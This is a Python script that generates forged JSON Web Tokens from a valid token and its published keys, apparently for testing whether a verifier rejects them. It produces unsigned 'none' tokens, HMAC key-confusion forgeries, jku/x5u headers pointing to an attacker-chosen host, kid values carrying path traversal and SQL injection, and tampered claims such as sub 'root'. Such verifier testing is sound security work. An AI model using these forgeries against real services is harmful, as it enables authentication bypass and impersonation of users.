"""Makes forgeries of a good token from what everybody knows: the token and the published keys.

usage: forge.py JWKS-FILE URL-OF-A-STRANGER  <TOKEN
Prints a line for each: what it is, a tab, the forged token.
"""
import base64
import hashlib
import hmac
import json
import sys

from cryptography.hazmat.primitives import serialization
from jwt import PyJWK


def encoded(data):
    return base64.urlsafe_b64encode(data if isinstance(data, bytes) else json.dumps(data, separators=(",", ":")).encode()).rstrip(b"=").decode()


def decoded(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def main():
    path, stranger = sys.argv[1:]
    with open(path) as file:
        published = json.load(file)["keys"]
    head, body, signature = sys.stdin.read().strip().split(".")
    good = json.loads(decoded(head))
    kid = good["kid"]

    def say(name, token):
        print(name, token, sep="\t")

    def with_head(name, members, mac_key=None, last=None):
        text = members if isinstance(members, str) else json.dumps(members, separators=(",", ":"))
        first = f"{encoded(text.encode())}.{body}"
        hashes = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
        if mac_key is not None:
            last = encoded(hmac.new(mac_key, first.encode(), hashes[members["alg"]]).digest())
        say(name, f"{first}.{signature if last is None else last}")

    for bits in range(16):
        none = "".join(letter.upper() if bits >> place & 1 else letter for place, letter in enumerate("none"))
        with_head(f"JWT-02 alg {none}", {"alg": none, "typ": "JWT", "kid": kid}, last="")
        with_head(f"JWT-02 alg {none} without kid", {"alg": none, "typ": "JWT"}, last="")

    for key in published:
        public = PyJWK(key).key
        pkix = serialization.PublicFormat.SubjectPublicKeyInfo
        pem = public.public_bytes(serialization.Encoding.PEM, pkix)
        forms = {
            "PEM": pem, "PEM without its last line feed": pem.strip(), "DER": public.public_bytes(serialization.Encoding.DER, pkix),
            "JWK": json.dumps(key).encode(), "compact JWK": json.dumps(key, separators=(",", ":")).encode(),
            "thumbprint": key["kid"].encode(), "modulus or x": decoded(key.get("n") or key["x"]), "nothing": b"",
        }
        for form, secret in forms.items():
            for algorithm in ["HS256", "HS384", "HS512"]:
                with_head(f"JWT-03 {algorithm} with the {form} of {key['kty']}", {"alg": algorithm, "typ": "JWT", "kid": key["kid"]}, secret)

    for other in ["RS256", "RS384", "RS512", "PS256", "ES256", "ES384", "ES256K", "EdDSA", "Ed25519", "HS256", good["alg"].lower(), "", " " + good["alg"]]:
        if other != good["alg"]:
            with_head(f"JWT-02 alg {other!r}", {**good, "alg": other})
    mine = "http://" + stranger
    for name, members in {
        "JWT-04 jku": {"jku": mine + "/jwks.json"}, "JWT-04 x5u": {"x5u": mine + "/x.pem"}, "JWT-04 jwk": {"jwk": published[0]},
        "JWT-04 x5c": {"x5c": ["AAAA"]}, "JWT-06 crit": {"crit": ["exp"], "exp": 1}, "JWT-06 empty crit": {"crit": []},
        "JWT-06 b64": {"b64": False, "crit": ["b64"]}, "JWT-06 b64 alone": {"b64": False}, "JWT-12 zip": {"zip": "DEF"},
        "JWT-12 typ at+jwt": {"typ": "at+jwt"}, "JWT-05 kid with a path": {"kid": "../../../../dev/null"},
        "JWT-05 kid with SQL": {"kid": "x' OR 1=1 --"}, "JWT-05 empty kid": {"kid": ""}, "JWT-05 number for a kid": {"kid": 1},
        "JWT-05 foreign kid": {"kid": "A" * len(kid)}, "JWT-05 kid that is an address": {"kid": mine + "/key"},
        "JWT-05 2 KiB kid": {"kid": "A" * 2_048}, "JWT-05 64 KiB kid": {"kid": "A" * 65_536},
    }.items():
        with_head(name, {**good, **members})
    plain = json.dumps(good, separators=(",", ":"))
    with_head("JWT-07 alg twice", '{"alg":"none",' + plain[1:])
    with_head("JWT-07 kid twice", plain[:-1] + ',"kid":"x"}')
    with_head("JWT-07 bytes after the head", plain + " {}")
    without = {name: value for name, value in good.items() if name != "alg"}
    with_head("no alg", without)
    with_head("no kid", {name: value for name, value in good.items() if name != "kid"})
    claims = json.loads(decoded(body))
    for name, change in {
        "another subject": {"sub": "root"}, "a later end": {"exp": claims["exp"] + 1_000_000}, "another issuer": {"iss": mine},
        "another audience": {"aud": "somebody"},
    }.items():
        say(f"JWT-01 {name}", f"{head}.{encoded({**claims, **change})}.{signature}")
    say("JWT-07 padded", f"{head}.{body}.{signature}==")
    say("JWT-07 padded body", f"{head}.{body}{'=' * (-len(body) % 4) or '='}.{signature}")
    say("JWT-07 standard alphabet", f"{head}.{body}.{signature[:-1]}+")
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    if len(signature) % 4:
        say("JWT-07 another last bit", f"{head}.{body}.{signature[:-1]}{alphabet[alphabet.index(signature[-1]) ^ 1]}")
    say("no signature", f"{head}.{body}.")
    say("two parts", f"{head}.{body}")
    say("four parts", f"{head}.{body}.{signature}.AAAA")
    say("five parts", f"{head}.{body}.{signature}.AAAA.AAAA")
    say("a session's prefix", f"wai_sess_{head}.{body}.{signature}")
    say("signature of zeros", f"{head}.{body}.{encoded(bytes(len(decoded(signature))))}")
    say("cut short", f"{head}.{body}.{signature[:-1]}")
    say("longer", f"{head}.{body}.{signature}A")


main()
